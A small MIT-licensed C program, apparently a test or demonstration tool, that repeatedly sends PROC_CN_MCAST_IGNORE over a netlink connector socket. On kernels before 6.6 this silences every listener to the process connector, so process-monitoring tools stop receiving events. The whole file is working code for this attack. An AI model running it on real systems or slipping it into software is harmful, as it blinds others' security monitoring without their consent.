/* SPDX-License-Identifier: MIT */
/*
 * `silence COUNT`: what any process with CAP_NET_ADMIN can do to the listeners of the process
 * connector before Linux 6.6: tells the kernel COUNT times that nobody listens any more.
 */
#include <linux/cn_proc.h>
#include <linux/connector.h>
#include <linux/netlink.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>

#include "common/util.h"

int main(int argc, char **argv)
{
	struct sockaddr_nl kernel = {.nl_family = AF_NETLINK};
	const struct cn_msg cn = {.id = {CN_IDX_PROC, CN_VAL_PROC}, .len = sizeof(uint32_t)};
	const uint32_t op = PROC_CN_MCAST_IGNORE;
	_Alignas(8) uint8_t m[NLMSG_HDRLEN + sizeof(cn) + sizeof(op)];
	const struct nlmsghdr nl = {.nlmsg_len = sizeof(m), .nlmsg_type = NLMSG_DONE};
	_cleanup_close_ int fd = socket(AF_NETLINK, SOCK_DGRAM | SOCK_CLOEXEC, NETLINK_CONNECTOR);
	uint64_t count;

	if (argc != 2 || parse_u64(argv[1], 1, 1000, &count) < 0)
		return 64;
	memcpy(m, &nl, sizeof(nl));
	memcpy(m + NLMSG_HDRLEN, &cn, sizeof(cn));
	memcpy(m + NLMSG_HDRLEN + sizeof(cn), &op, sizeof(op));
	for (; count; count--) {
		if (sendto(fd, m, sizeof(m), 0, (struct sockaddr *)&kernel, sizeof(kernel)) < 0) {
			fprintf(stderr, "silence: %s\n", strerror(errno));
			return 1;
		}
	}
	return 0;
}
